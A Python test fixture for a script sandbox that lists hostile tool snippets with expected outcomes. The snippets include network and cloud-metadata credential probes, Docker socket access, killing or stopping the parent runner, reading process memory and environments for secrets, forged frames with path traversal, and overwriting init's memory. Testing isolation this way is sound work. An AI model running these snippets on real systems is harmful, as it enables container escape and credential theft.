"""Hostile tools that reach for the network, and for the runner that they live beside."""

from hostile_tools import BRIEF, CRASHED, NOTHING, SUCCEEDED, TIMED_OUT, VIOLATION, Hostile

NETWORK = [
    Hostile(
        "network",
        """
        for address in ("1.1.1.1", "172.17.0.1", "10.0.0.1", "192.168.0.1", "2606:4700::1111"):
            for port in (22, 80, 443, 2375, 5432, 6379):
                attempt(address, lambda: socket.create_connection((address, port), 1).close())
        for port in (5432, 6379, 8000, 9000):  # what listens on its machine
            attempt(port, lambda: socket.create_connection(("127.0.0.1", port), 1).close())
        def send():
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as datagrams:
                datagrams.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
                datagrams.sendto(b"x", ("255.255.255.255", 9))
        attempt("broadcast", send)
        devices = [line.split(":")[0].strip() for line in open("/proc/net/dev") if ":" in line]
        print(got, devices, open("/proc/net/route").read().count("\\n"))
        """,
        SUCCEEDED,
        reports="[] ['lo'] 1\n",
    ),
    Hostile(
        "DNS",
        """
        import urllib.request
        for name in ("example.org", "localhost.example.org", "host.docker.internal", "gateway"):
            attempt(name, socket.getaddrinfo, name, 80)
        attempt("http", urllib.request.urlopen, "http://example.org/?hemligt=1", timeout=2)
        print(got, read("/etc/resolv.conf"))
        """,
        SUCCEEDED,
        reports="[] b''\n",
    ),
    Hostile(
        "the metadata address",
        """
        import urllib.request
        for url in ("http://169.254.169.254/latest/meta-data/", "http://[fd00:ec2::254]/",
                    "http://metadata.google.internal/", "http://100.100.100.200/",
                    "http://169.254.170.2/v2/credentials"):
            attempt(url, urllib.request.urlopen, url, timeout=2)
        print(got)
        """,
        SUCCEEDED,
        reports=NOTHING,
    ),
    Hostile(
        "the Docker socket",
        """
        def reach(path):
            with socket.socket(socket.AF_UNIX) as engine:
                engine.connect(path)
        for path in ("/var/run/docker.sock", "/run/docker.sock", "/run/containerd/containerd.sock",
                     "/run/systemd/private", "/run/dbus/system_bus_socket",
                     "\\0/containerd-shim/moby/x/shim.sock"):
            attempt(path, reach, path)
        heard = [line.split()[-1] for line in open("/proc/net/unix").readlines()[1:]]
        print(got, heard, glob.glob("/run/*sock*"), glob.glob("/proc/[0-9]*/root/run/*sock*"))
        """,
        SUCCEEDED,
        reports="[] [] [] []\n",
    ),
]


_TO_THE_WORKER = """
def frame(kind, payload=b""):
    return kind + len(payload).to_bytes(4, "big") + payload
runner = os.getppid()
os.kill(runner, signal.SIGSTOP)
worker = os.open("/proc/1/fd/1", os.O_WRONLY)
exited = frame(b"X", b'{"exit_code": 0, "timed_out": false, "out_of_memory": false}')
streams = frame(b"O", bytes(8)) + frame(b"E", bytes(8))
"""

RUNNER = [
    Hostile(
        "killing its own runner",
        "os.kill(os.getppid(), signal.SIGKILL); time.sleep(1000)",
        CRASHED,
        "utan resultat",
    ),
    Hostile(
        "stopping its own runner",
        "os.kill(os.getppid(), signal.SIGSTOP); time.sleep(1000)",
        TIMED_OUT,
        limits=BRIEF,
    ),
    Hostile(
        "killing everything it sees",
        "os.kill(-1, signal.SIGKILL); os.kill(1, signal.SIGKILL); time.sleep(1000)",
        CRASHED,
        "utan resultat",
    ),
    Hostile(
        "the runner's memory and files",
        """
        runner = os.getppid()
        for name in ("mem", "environ", "cwd", "root", "exe", "maps", "auxv", "io", "syscall",
                     *(f"fd/{number}" for number in range(10))):
            for flags in (os.O_RDONLY, os.O_WRONLY):
                attempt(name, os.open, f"/proc/{runner}/{name}", flags)
        attempt("list", os.listdir, f"/proc/{runner}/fd")
        pidfd = os.pidfd_open(runner)
        for number in range(10):
            attempt("getfd", syscall, 438, pidfd, number, 0)
        here, there = (ctypes.c_void_p * 2)(0, 8), (ctypes.c_void_p * 2)(0x400000, 8)
        attempt("vm", syscall, {"x86_64": 310, "aarch64": 270}[os.uname().machine], runner,
                here, 1, there, 1, 0)
        attempt("trace", syscall, {"x86_64": 101, "aarch64": 117}[os.uname().machine], 16, runner)
        for path in ("/opt/skriptoteket/runner.py", "/opt/skriptoteket/runner_tool.py"):
            attempt(path, write, path)
        print(got)
        """,
        SUCCEEDED,
        reports=NOTHING,
    ),
    Hostile(
        "secrets in its own environment and memory",
        """
        words = " ".join([*os.environ, *os.environ.values(), *sys.argv]).lower()
        for pid in filter(str.isdigit, os.listdir("/proc")):
            for name in ("environ", "cmdline"):
                words += str(attempt((pid, name), read, f"/proc/{pid}/{name}")).lower()
        print([word for word in ("secret", "password", "s3_", "redis", "postgres", "token",
                                 "docker.sock", "amqp", "10.0.") if word in words])
        """,
        SUCCEEDED,
        reports=NOTHING,
    ),
    Hostile(
        "forged frames: noise",
        _TO_THE_WORKER + "os.write(worker, b'\\xff' * 60_000); time.sleep(1000)",
        VIOLATION,
        "inte går att tolka",
    ),
    Hostile(
        "forged frames: an answer of its own",
        _TO_THE_WORKER
        + """
answer = {"contract_version": 2, "status": "succeeded", "outputs": [], "next_actions": [],
          "state": None, "artifacts": []}
os.write(worker, exited + streams + frame(b"T", json.dumps(answer).encode()) + frame(b"Z"))
time.sleep(1000)
""",
        SUCCEEDED,  # a tool may answer what it likes; here it does so in a roundabout way
    ),
    Hostile(
        "forged frames: a result of 4 GB",
        _TO_THE_WORKER
        + r"os.write(worker, exited + streams + b'T\xff\xff\xff\xff'); time.sleep(1000)",
        VIOLATION,
        "result.json",
    ),
    Hostile(
        "forged frames: an artifact that leads out",
        _TO_THE_WORKER
        + """
path = json.dumps({"path": f"../../../../../tmp/{CANARY}", "bytes": 4}).encode()
os.write(worker, exited + streams + frame(b"A", path) + frame(b"D", b"hej!") + frame(b"Z"))
time.sleep(1000)
""",
        VIOLATION,
        "inte går att använda",
    ),
    Hostile(
        "forged frames: one that never comes to an end",
        _TO_THE_WORKER + r"os.write(worker, exited + b'O\0\0\0\x64'); time.sleep(1000)",
        VIOLATION,
        "inte går att tolka",
    ),
    Hostile(
        "noise for its own runner",
        """
        kept = [os.open(f"/proc/1/fd/{number}", os.O_WRONLY) for number in range(3)]
        if os.fork() == 0:
            os.setsid()
            time.sleep(1000)
        os.write(kept[2], b"x" * 60_000)
        os.write(kept[0], b"x" * 100)
        time.sleep(1000)
        """,
        CRASHED,
        "utan resultat",
    ),
    Hostile(
        "taking over its init",
        r"""
        # It is no secret and no boundary: all that is gained is a process that its runner cannot
        # kill, and the engine can.
        for line in open("/proc/1/maps"):
            start, _, end = line.split()[0].partition("-")
            if " r-xp " in line and "init" in line:
                loop = {"x86_64": b"\xeb\xfe", "aarch64": b"\0\0\0\x14"}[os.uname().machine]
                count = (int(end, 16) - int(start, 16)) // len(loop)
                init = attempt("open", os.open, "/proc/1/mem", os.O_RDWR)
                attempt("write", os.pwrite, init, loop * count, int(start, 16))
        print(got)
        """,
        SUCCEEDED,
    ),
    Hostile(
        "starving its own runner",
        """
        for kind in (resource.RLIMIT_NOFILE, resource.RLIMIT_FSIZE, resource.RLIMIT_AS):
            resource.prlimit(os.getppid(), kind, (1, 1))
        """,
        CRASHED,
        "utan resultat",
    ),
]
